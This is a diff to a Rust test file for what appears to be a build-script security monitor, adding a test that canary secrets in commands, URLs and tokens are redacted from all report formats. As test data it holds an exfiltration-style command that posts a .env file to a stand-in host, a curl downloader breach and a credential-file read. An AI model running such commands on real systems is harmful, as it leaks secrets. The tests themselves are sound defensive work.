@@ -3,7 +3,7 @@
 use super::samples::*;
 use super::{Format, Material, assemble, terminal};
 use crate::model::report::{Report, Weakness};
-use crate::model::{Act, ActorId, Mode, Rule, Severity, Status};
+use crate::model::{Act, Mode, Rule, Severity, Status};
 
 /// Each form as a reader sees it: without tags, entities and marks of its own.
 fn forms(report: &Report) -> Vec<(&'static str, String)> {
@@ -55,6 +55,33 @@ fn what_was_run_is_told_with_its_words() {
     // One alone, too.
     material.breaches.truncate(1);
     all_say(&assemble(&material, &facts(), &Graph), &["file=@.env http://h/one"]);
+}
+
+/// A secret that was on a command line, in the address of a server, in a word to cargo, in what a finding would allow.
+#[test]
+fn no_form_holds_a_secret() {
+    const CANARY: &str = "CANARY0123456789abcdef";
+    let mut material = stolen_env();
+    let header = format!("Authorization: Bearer {CANARY}");
+    let (url, variable) = (format!("https://u:{CANARY}@h.example/x?token={CANARY}"), format!("API_TOKEN={CANARY}"));
+    let act = run(&["curl", "-H", &header, "--password", CANARY, &url]);
+    material.breaches.push(breach(BUILD, 400, act.clone(), Rule::ExecDownloader, Severity::High));
+    material.behaviours = vec![did(BUILD, act, Status::Allowed, 1)];
+    material.processes[2].argv = ["env", &variable, "curl", &url].map(Into::into).to_vec();
+    material.actors[1].argv = ["build-script-build", &variable, &url].map(Into::into).to_vec();
+    material.actors[3].argv = ["app", "--token", CANARY].map(Into::into).to_vec();
+    let mut facts = facts();
+    facts.run.command = ["cargo", "publish", "--token", CANARY].map(Into::into).to_vec();
+    let report = assemble(&material, &facts, &Graph);
+    let mut stored = Vec::new();
+    Format::Json.write(&report, &mut stored).unwrap();
+    let mut log = Vec::new();
+    super::markdown::annotations(&report, &mut log).unwrap();
+    let more = [("json", stored), ("annotations", log)].map(|(form, text)| (form, String::from_utf8(text).unwrap()));
+    for (form, text) in forms(&report).into_iter().chain(more) {
+        assert!(text.contains("curl"), "{form} tells nothing of it:\n{text}");
+        assert!(!text.contains(CANARY), "{form}:\n{text}");
+    }
 }
 
 #[test]
@@ -128,7 +155,7 @@ fn crates_that_do_the_same_are_counted_each() {
 #[test]
 fn refusals_without_alarm_are_no_secret_of_a_clean_run() {
     let mut material = material();
-    material.behaviours = vec![(ActorId(BUILD), read("/home/u/.cvsrc"), Status::Refused, 3)];
+    material.behaviours = vec![did(BUILD, read("/home/u/.cvsrc"), Status::Refused, 3)];
     let report = assemble(&material, &facts(), &Graph);
     for (form, text) in forms(&report).into_iter().filter(|(form, _)| *form != "sarif") {
         assert!(text.contains("without alarm"), "{form}:\n{text}");
